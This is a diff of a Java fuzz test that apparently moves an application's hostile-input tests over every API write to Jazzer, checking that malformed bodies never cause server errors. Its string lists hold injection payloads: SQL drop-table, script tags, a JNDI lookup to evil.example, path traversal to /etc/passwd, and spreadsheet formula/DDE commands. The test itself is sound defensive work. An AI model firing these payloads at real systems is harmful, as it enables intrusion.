@@ -4,10 +4,13 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.entente.TestAccounts.as;
 
 import java.io.ByteArrayOutputStream;
+import java.io.IOException;
 import java.lang.reflect.ParameterizedType;
 import java.lang.reflect.RecordComponent;
 import java.lang.reflect.Type;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.Collection;
@@ -15,29 +18,30 @@ import java.util.Comparator;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-import java.util.Random;
 import java.util.Set;
 import java.util.TreeMap;
+import java.util.TreeSet;
+import java.util.concurrent.ConcurrentSkipListSet;
 import java.util.concurrent.atomic.AtomicInteger;
-import java.util.function.BiFunction;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
-import java.util.stream.Stream;
+import java.util.zip.CRC32;
 
+import com.code_intelligence.jazzer.api.BugDetectors;
+import com.code_intelligence.jazzer.api.FuzzedDataProvider;
+import com.code_intelligence.jazzer.junit.FuzzTest;
 import org.entente.EntenteTest;
 import org.entente.TestDatabases;
 import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.DynamicTest;
-import org.junit.jupiter.api.TestFactory;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.context.ApplicationContext;
 import org.springframework.core.MethodParameter;
 import org.springframework.http.HttpMethod;
+import org.springframework.http.MediaType;
+import org.springframework.jdbc.core.JdbcTemplate;
 import org.springframework.test.annotation.DirtiesContext;
 import org.springframework.test.context.DynamicPropertyRegistry;
 import org.springframework.test.context.DynamicPropertySource;
-import org.springframework.http.MediaType;
-import org.springframework.jdbc.core.JdbcTemplate;
 import org.springframework.test.web.servlet.assertj.MockMvcTester;
 import org.springframework.test.web.servlet.assertj.MvcTestResult;
 import org.springframework.web.bind.annotation.RequestBody;
@@ -53,19 +57,25 @@ import tools.jackson.databind.node.JsonNodeFactory;
 import tools.jackson.databind.node.ObjectNode;
 
 /**
- * Hostile input over every API write that reads a body (listed from the handler mappings, so a new intake cannot be
- * forgotten): a valid body per intake (written below for the raw and loosely typed ones, generated from the
- * {@code @RequestBody} type for the others) is mutated by a seeded generator (truncation, wrong types, huge numbers,
- * deep nesting, invalid UTF-8, BOMs, formula injections, nulls, duplicate keys, oversized fields, random bytes). The
- * bar: every answer is a 2xx or a 4xx problem document ({@code application/problem+json} with a detail), never a
- * 5xx; a refused import (and any dry run) leaves its tables' row counts unchanged.
+ * Hostile input over every API write that reads a body, as a Jazzer fuzz target: {@link #hostileBody} takes the fuzz
+ * data, picks one intake (listed from the handler mappings, so a new intake cannot be forgotten), starts from a valid
+ * body (written below for the raw and loosely typed intakes, generated from the {@code @RequestBody} type for the
+ * others), applies one {@link Kind} of hostile change driven by the data (wrong types, nulls and nulls in arrays, huge
+ * numbers and strings, invalid UTF-8, BOMs, deep nesting, injection strings, formulas, CSV quoting and lines, duplicate
+ * keys, truncation, the fuzzer's own bytes spliced in or as the whole body) and sends it to the application (one Spring
+ * context, MockMvc). The bar: every answer is a 2xx or a 4xx problem document ({@code application/problem+json} with
+ * a detail), never a 5xx; a refused import (and any dry run) leaves its tables' row counts unchanged.
  * <p>
- * The seed is fixed ({@code entente.fuzz.seed}, 17) so that CI replays the same corpus; each finding names the seed,
- * the case and the mutation. {@code -Dentente.fuzz.cases=N} runs N cases per intake instead of {@link #CI_CASES}.
+ * The fuzz data, as {@link FuzzedDataProvider} reads it (integers from the end, the rest from the start): three bytes
+ * select the intake (the {@link #selector} of its key, so that a seed keeps its intake when endpoints are added; any
+ * other value picks by position), one byte the kind, two the place in the body, two a size or choice, and the remaining
+ * bytes are material (a string, bytes to splice or the whole body).
  * <p>
- * On a database of its own: the valid cases really create assets, tickets and purchases, which other classes that
- * share the common context would then count (in CI a hundred fuzz assets pushed a collège past its référentiel and
- * off an agent test's first page).
+ * In CI (regression mode) the seeds of {@code src/test/resources/org/entente/web/HostileInputFuzzTestsInputs/hostileBody/}
+ * run, one per intake (the kinds taken in turn) and the inputs that once failed; {@link #report} fails when an intake has no seed, and
+ * {@code -Dentente.fuzz.write-seeds=true} writes the missing ones. A fuzzing session: docs/developing.md.
+ * <p>
+ * On a database of its own: valid bodies really create assets, tickets and purchases.
  */
 @EntenteTest
 @DirtiesContext
@@ -76,13 +86,6 @@ class HostileInputFuzzTests {
 		TestDatabases.isolate(registry, "hostile_fuzz");
 	}
 
-	static final long SEED = Long.getLong("entente.fuzz.seed", 17L);
-
-	/** Cases per intake in CI: 58 intakes, about 175 requests (each intake draws its own mutations). */
-	static final int CI_CASES = 3;
-
-	static final int CASES = Integer.getInteger("entente.fuzz.cases", CI_CASES);
-
 	static final JsonMapper JSON = JsonMapper.builder().build();
 
 	static final JsonNodeFactory NODES = JsonNodeFactory.instance;
@@ -91,7 +94,16 @@ class HostileInputFuzzTests {
 
 	static final AtomicInteger FINDINGS = new AtomicInteger();
 
-	static long started = System.nanoTime();
+	/** The intakes the inputs of this run reached. */
+	static final Set<String> REACHED = new ConcurrentSkipListSet<>();
+
+	static volatile List<Intake> intakes;
+
+	static volatile long started;
+
+	static final boolean FUZZING = System.getenv("JAZZER_FUZZ") != null && !System.getenv("JAZZER_FUZZ").isEmpty();
+
+	static final Path SEEDS_DIR = Path.of("src/test/resources/org/entente/web/HostileInputFuzzTestsInputs/hostileBody");
 
 	static final String ASSET_CSV = "uai,component,network,name,serial,manufacturer,model,funding,acquired,warrantyEnd,status\n"
 			+ "0359901X,VIDEOPROJECTEURS,PEDAGOGICAL,VP-FUZZ,FUZZ-SERIAL,Epson,EB,CD,2024-01-01,2027-01-01,IN_SERVICE\n";
@@ -101,7 +113,6 @@ class HostileInputFuzzTests {
 
 	/** A valid body (content type, text) for the intakes whose body is raw or a JsonNode. */
 	static final Map<String, Seed> SEEDS = new LinkedHashMap<>();
-
 	record Seed(String contentType, String body, String query, List<String> tables, boolean dryRun) {
 	}
 
@@ -187,57 +198,126 @@ class HostileInputFuzzTests {
 			return method + " " + pattern;
 		}
 
-		boolean csv() {
-			return contentType.contains("csv");
-		}
-
 		boolean json() {
 			return contentType.contains("json");
 		}
 	}
 
-	@TestFactory
-	Stream<DynamicTest> everyIntakeRefusesHostileBodiesWithAProblem() {
-		started = System.nanoTime();
-		List<Intake> intakes = intakes();
-		System.out.println("HostileInputFuzzTests: " + intakes.size() + " intakes, " + CASES + " cases each, entente.fuzz.seed=" + SEED);
-		assertThat(intakes).hasSizeGreaterThan(40);
-		return intakes.stream().map(i -> DynamicTest.dynamicTest(i.key(), () -> fuzz(i)));
+	/** The stable selector of an intake (24 bits of the CRC-32 of its key). */
+	static int selector(String key) {
+		CRC32 crc = new CRC32();
+		crc.update(key.getBytes(StandardCharsets.UTF_8));
+		return (int) (crc.getValue() & 0xFFFFFF);
 	}
 
-	@AfterAll
-	static void report() {
-		System.out.printf("HostileInputFuzzTests: %d requests, %d findings, %.1f s, entente.fuzz.seed=%d%n", REQUESTS.get(),
-				FINDINGS.get(), (System.nanoTime() - started) / 1e9, SEED);
+	/** What the fuzz data asks for, read in {@link FuzzedDataProvider}'s order. */
+	record Input(Intake intake, Kind kind, int where, int size, byte[] material) {
+
+		static Input read(FuzzedDataProvider data, List<Intake> intakes) {
+			int selector = data.consumeInt(0, 0xFFFFFF);
+			Kind kind = Kind.values()[data.consumeInt(0, Kind.values().length - 1)];
+			int where = data.consumeInt(0, 0xFFFF);
+			int size = data.consumeInt(0, 0xFFFF);
+			byte[] material = data.consumeRemainingAsBytes();
+			Intake intake = intakes.stream().filter(i -> selector(i.key()) == selector).findFirst()
+				.orElse(intakes.get(selector % intakes.size()));
+			return new Input(intake, kind, where, size, material);
+		}
+
+		/** The bytes that {@link #read} reads back as this input (the integers little-endian at the end, last read first). */
+		byte[] bytes() {
+			ByteArrayOutputStream out = new ByteArrayOutputStream();
+			out.writeBytes(material);
+			out.write(size & 0xFF);
+			out.write(size >> 8);
+			out.write(where & 0xFF);
+			out.write(where >> 8);
+			out.write(kind.ordinal());
+			int selector = selector(intake.key());
+			out.write(selector & 0xFF);
+			out.write((selector >> 8) & 0xFF);
+			out.write(selector >> 16);
+			return out.toByteArray();
+		}
+
+		String materialText() {
+			return new String(material, StandardCharsets.UTF_8);
+		}
 	}
 
-	private void fuzz(Intake intake) throws Exception {
+	@FuzzTest(maxDuration = "10m")
+	void hostileBody(FuzzedDataProvider data) throws Exception {
+		List<Intake> all = intakes();
+		boolean selected = data.remainingBytes() >= 3; // not the empty input, which picks the first intake
+		Input input = Input.read(data, all);
+		Intake intake = input.intake();
+		if (selected) {
+			REACHED.add(intake.key());
+		}
+		byte[] body = input.kind().apply(input);
+		Map<String, Long> before = counts(intake.tables());
+		MvcTestResult r;
+		// The application's own connections (the database pool, a webhook check) are not server-side request forgery.
+		try (var allowed = BugDetectors.allowNetworkConnections()) {
+			r = send(intake, body);
+		}
+		int status = r.getResponse().getStatus();
+		String text = new String(r.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
+		String where = intake.key() + " " + input.kind() + " (place " + input.where() + ", size " + input.size() + ") body "
+				+ excerpt(body) + " -> " + status + " " + excerpt(text.getBytes(StandardCharsets.UTF_8));
 		List<String> findings = new ArrayList<>();
-		for (int n = 0; n < CASES; n++) {
-			Random random = new Random(SEED * 1_000_003 + intake.key().hashCode() * 31L + n);
-			Mutation m = MUTATIONS.get(random.nextInt(MUTATIONS.size()));
-			byte[] body = m.apply(intake, random);
-			Map<String, Long> before = counts(intake.tables());
-			MvcTestResult r = send(intake, body);
-			int status = r.getResponse().getStatus();
-			String text = new String(r.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
-			String where = "entente.fuzz.seed=" + SEED + " case " + n + " mutation " + m.name() + " body "
-					+ excerpt(body) + " -> " + status + " " + excerpt(text.getBytes(StandardCharsets.UTF_8));
-			if (status >= 500) {
-				findings.add(where);
-			}
-			else if (status >= 400 && !isProblem(r, text)) {
-				findings.add("not a problem document (" + r.getResponse().getContentType() + "): " + where);
-			}
-			if ((status >= 400 || intake.dryRun()) && !intake.tables().isEmpty()) {
-				Map<String, Long> after = counts(intake.tables());
-				if (!after.equals(before)) {
-					findings.add("rows changed " + before + " -> " + after + ": " + where);
-				}
+		if (status >= 500) {
+			findings.add(where);
+		}
+		else if (status >= 400 && !isProblem(r, text)) {
+			findings.add("not a problem document (" + r.getResponse().getContentType() + "): " + where);
+		}
+		if ((status >= 400 || intake.dryRun()) && !intake.tables().isEmpty()) {
+			Map<String, Long> after = counts(intake.tables());
+			if (!after.equals(before)) {
+				findings.add("rows changed " + before + " -> " + after + ": " + where);
 			}
 		}
 		FINDINGS.addAndGet(findings.size());
 		assertThat(findings).as(intake.key()).isEmpty();
+	}
+
+	@AfterAll
+	static void report() throws IOException {
+		System.out.printf("HostileInputFuzzTests: %d requests, %d findings, %.1f s, %d of %d intakes reached%n", REQUESTS.get(),
+				FINDINGS.get(), (System.nanoTime() - started) / 1e9, REACHED.size(), intakes == null ? 0 : intakes.size());
+		if (intakes == null || FUZZING) {
+			return;
+		}
+		Set<String> missing = new TreeSet<>();
+		for (Intake i : intakes) {
+			if (!REACHED.contains(i.key())) {
+				missing.add(i.key());
+			}
+		}
+		if (Boolean.getBoolean("entente.fuzz.write-seeds")) {
+			writeSeeds(missing);
+			return;
+		}
+		assertThat(missing).as("intakes without a seed in " + SEEDS_DIR + ": write them with "
+				+ "mvn -o surefire:test@fuzz-regression -Dtest=HostileInputFuzzTests -Dentente.fuzz.write-seeds=true").isEmpty();
+	}
+
+	/** A seed for each intake not reached yet, of a kind that changes with the intake (each kind serves three or four). */
+	private static void writeSeeds(Set<String> missing) throws IOException {
+		Files.createDirectories(SEEDS_DIR);
+		Kind[] kinds = Kind.values();
+		for (int n = 0; n < intakes.size(); n++) {
+			Intake i = intakes.get(n);
+			if (!missing.contains(i.key())) {
+				continue;
+			}
+			Kind kind = kinds[n % kinds.length];
+			Input input = new Input(i, kind, 17 * (n + 1), 31 * (n + 3), kind.seedMaterial());
+			String name = (i.key().replaceAll("[^A-Za-z0-9]+", "_") + "-" + kind).toLowerCase();
+			Files.write(SEEDS_DIR.resolve(name), input.bytes());
+			System.out.println("HostileInputFuzzTests: seed written for " + i.key() + " (" + kind + ")");
+		}
 	}
 
 	private static boolean isProblem(MvcTestResult r, String text) {
@@ -280,91 +360,174 @@ class HostileInputFuzzTests {
 			.with(as(user)).exchange();
 	}
 
-	// --- mutations ---
+	// --- the kinds of hostile change ---
 
-	record Mutation(String name, BiFunction<Intake, Random, byte[]> how) {
+	static final List<String> HOSTILE_STRINGS = List.of("'; drop table ticket; --", "' or '1'='1", "<script>alert(1)</script>",
+			"${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "\u0000", "\u202Egnp.exe", "\uFEFF", "\r\n\r\n",
+			"../../../../etc/passwd", "%00", "%C3%28", "\\u0000", "𝕱𝖚𝖟𝖟 😈", "\uD800", "9".repeat(400), "-0", "1e400", "NaN",
+			"true", "null", "[]", "{}", "*", "%", "_", "\\", "\"", "a\u0000b");
 
-		byte[] apply(Intake intake, Random random) {
-			return how.apply(intake, random);
+	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+			"+1+1", "-2+3", "=1+1", "\t=1", "\r=1", "=cmd|' /C calc'!A0");
+
+	/** One kind of hostile change; each reads the place, the size and the material of the input its own way. */
+	enum Kind {
+		TRUNCATED {
+			byte[] apply(Input in) {
+				byte[] b = utf8(in.intake().body());
+				return Arrays.copyOf(b, in.where() % Math.max(1, b.length));
+			}
+		},
+		WRONG_TYPE {
+			byte[] apply(Input in) {
+				return in.intake().json() ? json(in, old -> wrongType(old, in.size())) : csvCell(in, pick(in.size(), "abc", "-1", "1.5", "vrai", "2026-13-45"));
+			}
+		},
+		NULL {
+			byte[] apply(Input in) {
+				if (!in.intake().json()) {
+					return csvCell(in, "");
+				}
+				return in.size() % 4 == 0 ? utf8("null") : json(in, old -> NODES.nullNode());
+			}
+		},
+		NULL_IN_ARRAY {
+			byte[] apply(Input in) {
+				if (!in.intake().json()) {
+					return utf8(in.intake().body() + ",,,,\n" + "\"\"".repeat(1 + in.size() % 5) + "\n");
+				}
+				JsonNode root = JSON.readTree(in.intake().body());
+				List<ArrayNode> arrays = new ArrayList<>();
+				arrays(root, arrays);
+				if (arrays.isEmpty()) {
+					return utf8("[null, " + in.intake().body() + "]");
+				}
+				ArrayNode a = arrays.get(in.where() % arrays.size());
+				a.insert(a.isEmpty() ? 0 : in.size() % (a.size() + 1), NODES.nullNode());
+				return JSON.writeValueAsBytes(root);
+			}
+		},
+		HUGE_NUMBER {
+			byte[] apply(Input in) {
+				String digits = "9".repeat(20 + in.size() % 2000);
+				return in.intake().json() ? json(in, old -> NODES.numberNode(new java.math.BigInteger(digits)))
+						: csvCell(in, pick(in.size(), digits, "1e400", "-9223372036854775809"));
+			}
+		},
+		HUGE_STRING {
+			byte[] apply(Input in) {
+				String unit = in.material().length == 0 ? "é" : in.materialText();
+				String big = unit.repeat(Math.max(1, (12_000 + in.size()) / Math.max(1, unit.length())));
+				return in.intake().json() ? json(in, old -> NODES.stringNode(big)) : csvCell(in, big);
+			}
+		},
+		INVALID_UTF8 {
+			byte[] apply(Input in) {
+				byte[][] bad = { { (byte) 0xC3, 0x28 }, { (byte) 0xFF }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
+						{ (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, { (byte) 0xE2, (byte) 0x82 },
+						{ (byte) 0xC0, (byte) 0xAF } };
+				byte[] b = utf8(in.intake().body());
+				return splice(b, insideText(in.intake().body(), in.where()), bad[in.size() % bad.length]);
+			}
+		},
+		BOM {
+			byte[] apply(Input in) {
+				byte[] bom = in.size() % 2 == 0 ? new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF } : new byte[] { (byte) 0xFE, (byte) 0xFF };
+				return splice(utf8(in.intake().body()), 0, bom);
+			}
+		},
+		DEEP_NESTING {
+			byte[] apply(Input in) {
+				int depth = 600 + in.size() % 6000;
+				String deep = in.size() % 2 == 0 ? "[".repeat(depth) + "]".repeat(depth) : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
+				return in.intake().json() ? replaceFirstValue(in.intake().body(), deep) : utf8(in.intake().body() + deep + "\n");
+			}
+		},
+		INJECTION {
+			byte[] apply(Input in) {
+				String s = HOSTILE_STRINGS.get(in.size() % HOSTILE_STRINGS.size()) + in.materialText();
+				return in.intake().json() ? json(in, old -> NODES.stringNode(s)) : csvCell(in, s);
+			}
+		},
+		FORMULA {
+			byte[] apply(Input in) {
+				String s = FORMULAS.get(in.size() % FORMULAS.size()) + in.materialText();
+				return in.intake().json() ? json(in, old -> NODES.stringNode(s)) : csvCell(in, s);
+			}
+		},
+		FUZZED_STRING {
+			byte[] apply(Input in) {
+				String s = in.materialText();
+				return in.intake().json() ? json(in, old -> NODES.stringNode(s)) : csvCell(in, s);
+			}
+		},
+		DUPLICATE_KEY {
+			byte[] apply(Input in) {
+				String body = in.intake().body();
+				if (in.intake().json() && body.trim().startsWith("{") && body.contains("\":")) {
+					String key = body.substring(body.indexOf('"'), body.indexOf("\":") + 2);
+					return utf8(body.trim().replaceFirst("\\{", Matcher.quoteReplacement("{" + key + "[1,{\"x\":2}],")));
+				}
+				String[] lines = body.split("\n", 2);
+				return utf8(lines[0] + "," + lines[0].split(",")[0] + "\n" + (lines.length > 1 ? lines[1] : ""));
+			}
+		},
+		CSV_QUOTES {
+			byte[] apply(Input in) {
+				String s = in.intake().body();
+				int at = insideText(s, in.where());
+				String q = pick(in.size(), "\"", "\"\"\"", "\\\"", "'", "\",\"", "\n\"", "\"x\"y", ";", "\r");
+				byte[] b = utf8(s);
+				return splice(b, Math.min(at, b.length), utf8(q));
+			}
+		},
+		MANY_LINES {
+			byte[] apply(Input in) {
+				int n = 100 + in.size() % 1000;
+				if (in.intake().json()) {
+					return utf8("[" + (in.intake().body() + ",").repeat(n) + "{}]");
+				}
+				StringBuilder sb = new StringBuilder(in.intake().body());
+				String line = in.intake().body().split("\n")[1];
+				for (int k = 0; k < n; k++) {
+					sb.append(line.replace("FUZZ", "FZ" + k).replace("fuzz", "fz" + k)).append(k % 2 == 0 ? "\r\n" : "\n");
+				}
+				return utf8(sb.toString());
+			}
+		},
+		SPLICED_BYTES {
+			byte[] apply(Input in) {
+				byte[] b = utf8(in.intake().body());
+				return splice(b, in.where() % (b.length + 1), in.material());
+			}
+		},
+		RAW_BYTES {
+			byte[] apply(Input in) {
+				return in.material();
+			}
+		};
+
+		abstract byte[] apply(Input in);
+
+		/** The material a written seed starts from. */
+		byte[] seedMaterial() {
+			return switch (this) {
+				case HUGE_STRING -> utf8("Ω");
+				case INJECTION -> utf8(" x");
+				case FUZZED_STRING -> utf8("é\u0000\u2028\"\\");
+				case SPLICED_BYTES -> utf8("\"},{\"a\":[");
+				case RAW_BYTES -> new byte[] { '{', (byte) 0xC3, '"', ':', '[', 0, '\n' };
+				default -> new byte[0];
+			};
 		}
 	}
 
-	static final List<String> HOSTILE_STRINGS = List.of("=HYPERLINK(\"http://evil.example/\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
-			"+1+1", "-2+3", "'; drop table ticket; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
-			"\u0000", "\u202Egnp.exe", "\uFEFF", "\r\n\r\n", "../../../../etc/passwd", "%00", "\\u0000", "𝕱𝖚𝖟𝖟 😈",
-			"9".repeat(400), "-0", "1e400", "NaN", "true", "null", "[]", "{}");
+	private static byte[] utf8(String s) {
+		return s.getBytes(StandardCharsets.UTF_8);
+	}
 
-	static final List<Mutation> MUTATIONS = List.of(
-			new Mutation("truncated", (i, r) -> {
-				byte[] b = i.body().getBytes(StandardCharsets.UTF_8);
-				return Arrays.copyOf(b, r.nextInt(Math.max(1, b.length)));
-			}),
-			new Mutation("wrong-type", (i, r) -> i.json() ? json(i, r, (node, rr) -> wrongType(node, rr)) : csvCell(i, r, "abc")),
-			new Mutation("huge-number", (i, r) -> i.json() ? json(i, r, (node, rr) -> NODES.numberNode(new java.math.BigInteger("9".repeat(400))))
-					: csvCell(i, r, pick(r, "99999999999999999999999999", "1e400", "-9223372036854775809"))),
-			new Mutation("deep-nesting", (i, r) -> {
-				int depth = 600 + r.nextInt(5_000);
-				String deep = "[".repeat(depth) + "]".repeat(depth);
-				return i.json() ? replaceFirstValue(i.body(), deep) : (i.body() + deep + "\n").getBytes(StandardCharsets.UTF_8);
-			}),
-			new Mutation("invalid-utf8", (i, r) -> {
-				byte[] b = i.body().getBytes(StandardCharsets.UTF_8);
-				int at = insideText(i.body(), r);
-				byte[][] bad = { { (byte) 0xC3, 0x28 }, { (byte) 0xFF }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
-						{ (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, { (byte) 0xE2, (byte) 0x82 } };
-				return splice(b, at, bad[r.nextInt(bad.length)]);
-			}),
-			new Mutation("bom", (i, r) -> {
-				byte[] bom = r.nextBoolean() ? new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }
-						: new byte[] { (byte) 0xFE, (byte) 0xFF };
-				return splice(i.body().getBytes(StandardCharsets.UTF_8), 0, bom);
-			}),
-			new Mutation("hostile-string", (i, r) -> {
-				String s = HOSTILE_STRINGS.get(r.nextInt(HOSTILE_STRINGS.size()));
-				return i.json() ? json(i, r, (node, rr) -> NODES.stringNode(s)) : csvCell(i, r, s);
-			}),
-			new Mutation("null", (i, r) -> i.json() ? (r.nextInt(4) == 0 ? "null".getBytes(StandardCharsets.UTF_8)
-					: json(i, r, (node, rr) -> NODES.nullNode())) : csvCell(i, r, "")),
-			new Mutation("duplicate-key", (i, r) -> {
-				if (i.json() && i.body().trim().startsWith("{") && i.body().contains("\":")) {
-					String key = i.body().substring(i.body().indexOf('"'), i.body().indexOf("\":") + 2);
-					return i.body().trim().replaceFirst("\\{", Matcher.quoteReplacement("{" + key + "[1,{\"x\":2}],"))
-						.getBytes(StandardCharsets.UTF_8);
-				}
-				String[] lines = i.body().split("\n", 2);
-				return (lines[0] + "," + lines[0].split(",")[0] + "\n" + (lines.length > 1 ? lines[1] : ""))
-					.getBytes(StandardCharsets.UTF_8);
-			}),
-			new Mutation("oversized-field", (i, r) -> {
-				String big = "é".repeat(12_000 + r.nextInt(20_000));
-				return i.json() ? json(i, r, (node, rr) -> NODES.stringNode(big)) : csvCell(i, r, big);
-			}),
-			new Mutation("random-bytes", (i, r) -> {
-				byte[] b = new byte[r.nextInt(2048)];
-				r.nextBytes(b);
-				return b;
-			}),
-			new Mutation("empty", (i, r) -> new byte[0]),
-			new Mutation("many-lines", (i, r) -> {
-				StringBuilder sb = new StringBuilder(i.body());
-				if (i.json()) {
-					return ("[" + (i.body() + ",").repeat(100 + r.nextInt(300)) + "{}]").getBytes(StandardCharsets.UTF_8);
-				}
-				String line = i.body().split("\n")[1];
-				for (int k = 0, n = 100 + r.nextInt(300); k < n; k++) {
-					sb.append(line.replace("FUZZ", "FZ" + k).replace("fuzz", "fz" + k)).append(r.nextBoolean() ? "\r\n" : "\n");
-				}
-				return sb.toString().getBytes(StandardCharsets.UTF_8);
-			}),
-			new Mutation("quote-chaos", (i, r) -> {
-				String s = i.body();
-				int at = insideText(s, r);
-				String q = pick(r, "\"", "\"\"\"", "\\\"", "'", "\",\"", "\n\"");
-				return (s.substring(0, at) + q + s.substring(at)).getBytes(StandardCharsets.UTF_8);
-			}));
-
-	private static String pick(Random r, String... values) {
-		return values[r.nextInt(values.length)];
+	private static String pick(int n, String... values) {
+		return values[n % values.length];
 	}
 
 	private static byte[] splice(byte[] b, int at, byte[] insert) {
@@ -375,27 +538,27 @@ class HostileInputFuzzTests {
 		return out.toByteArray();
 	}
 
-	/** A position inside the text (after the CSV header, inside the JSON), on a character boundary. */
-	private static int insideText(String s, Random r) {
+	/** A byte position inside the text (after the CSV header, inside the JSON), on a character boundary. */
+	private static int insideText(String s, int where) {
 		int from = s.indexOf('\n') >= 0 && s.indexOf('\n') < s.length() - 1 ? s.indexOf('\n') + 1 : Math.min(1, s.length());
-		String head = s.substring(0, from + r.nextInt(Math.max(1, s.length() - from)));
+		String head = s.substring(0, from + where % Math.max(1, s.length() - from));
 		return head.getBytes(StandardCharsets.UTF_8).length;
 	}
 
-	private static byte[] csvCell(Intake i, Random r, String value) {
-		String[] lines = i.body().split("\n");
+	private static byte[] csvCell(Input in, String value) {
+		String[] lines = in.intake().body().split("\n");
 		String[] cells = lines[lines.length - 1].split(",", -1);
-		String v = value.contains(",") || value.contains("\"") || value.contains("\n")
+		String v = value.contains(",") || value.contains("\"") || value.contains("\n") || value.contains("\r")
 				? "\"" + value.replace("\"", "\"\"") + "\"" : value;
-		cells[r.nextInt(cells.length)] = v;
+		cells[in.where() % cells.length] = v;
 		lines[lines.length - 1] = String.join(",", cells);
-		return (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
+		return utf8(String.join("\n", lines) + "\n");
 	}
 
 	private static byte[] replaceFirstValue(String body, String value) {
 		int colon = body.indexOf(':');
 		if (colon < 0 || !body.trim().startsWith("{")) {
-			return value.getBytes(StandardCharsets.UTF_8);
+			return utf8(value);
 		}
 		int end = colon + 1;
 		int depth = 0;
@@ -417,20 +580,20 @@ class HostileInputFuzzTests {
 				break;
 			}
 		}
-		return (body.substring(0, colon + 1) + value + body.substring(end)).getBytes(StandardCharsets.UTF_8);
+		return utf8(body.substring(0, colon + 1) + value + body.substring(end));
 	}
 
-	/** The body with one node (picked at random among all) replaced. */
-	private static byte[] json(Intake i, Random r, BiFunction<JsonNode, Random, JsonNode> replace) {
-		JsonNode root = JSON.readTree(i.body());
+	/** The body with one node (the input's place among all of them) replaced. */
+	private static byte[] json(Input in, java.util.function.UnaryOperator<JsonNode> replace) {
+		JsonNode root = JSON.readTree(in.intake().body());
 		List<Object[]> slots = new ArrayList<>();
 		collect(root, slots);
 		if (slots.isEmpty()) {
-			return JSON.writeValueAsBytes(replace.apply(root, r));
+			return JSON.writeValueAsBytes(replace.apply(root));
 		}
-		Object[] slot = slots.get(r.nextInt(slots.size()));
+		Object[] slot = slots.get(in.where() % slots.size());
 		JsonNode old = slot[0] instanceof ObjectNode o ? o.get((String) slot[1]) : ((ArrayNode) slot[0]).get((Integer) slot[1]);
-		JsonNode now = replace.apply(old, r);
+		JsonNode now = replace.apply(old);
 		if (slot[0] instanceof ObjectNode o) {
 			o.set((String) slot[1], now);
 		}
@@ -455,22 +618,51 @@ class HostileInputFuzzTests {
 		}
 	}
 
-	private static JsonNode wrongType(JsonNode node, Random r) {
+	private static void arrays(JsonNode node, List<ArrayNode> found) {
+		if (node instanceof ArrayNode a) {
+			found.add(a);
+		}
+		if (node != null && node.isContainer()) {
+			for (JsonNode child : node) {
+				arrays(child, found);
+			}
+		}
+	}
+
+	private static JsonNode wrongType(JsonNode node, int choice) {
+		boolean first = choice % 2 == 0;
 		if (node == null || node.isString()) {
-			return r.nextBoolean() ? NODES.numberNode(42) : NODES.objectNode().put("x", 1);
+			return first ? NODES.numberNode(42) : NODES.objectNode().put("x", 1);
 		}
 		if (node.isNumber() || node.isBoolean()) {
-			return r.nextBoolean() ? NODES.stringNode("quarante-deux") : NODES.arrayNode().add(1);
+			return first ? NODES.stringNode("quarante-deux") : NODES.arrayNode().add(1);
 		}
 		if (node.isArray()) {
-			return r.nextBoolean() ? NODES.stringNode("liste") : NODES.objectNode();
+			return first ? NODES.stringNode("liste") : NODES.objectNode();
 		}
-		return r.nextBoolean() ? NODES.arrayNode().add("x") : NODES.numberNode(-1);
+		return first ? NODES.arrayNode().add("x") : NODES.numberNode(-1);
 	}
 
 	// --- the intakes, from the handler mappings ---
 
 	private List<Intake> intakes() {
+		if (intakes == null) {
+			synchronized (HostileInputFuzzTests.class) {
+				if (intakes == null) {
+					started = System.nanoTime();
+					List<Intake> all = mapped();
+					assertThat(all).hasSizeGreaterThan(40);
+					assertThat(all.stream().map(i -> selector(i.key())).distinct().count()).as("one selector per intake")
+						.isEqualTo(all.size());
+					System.out.println("HostileInputFuzzTests: " + all.size() + " intakes");
+					intakes = all;
+				}
+			}
+		}
+		return intakes;
+	}
+
+	private List<Intake> mapped() {
 		List<Intake> all = new ArrayList<>();
 		for (RequestMappingHandlerMapping mapping : context.getBeansOfType(RequestMappingHandlerMapping.class).values()) {
 			for (Map.Entry<RequestMappingInfo, HandlerMethod> e : mapping.getHandlerMethods().entrySet()) {
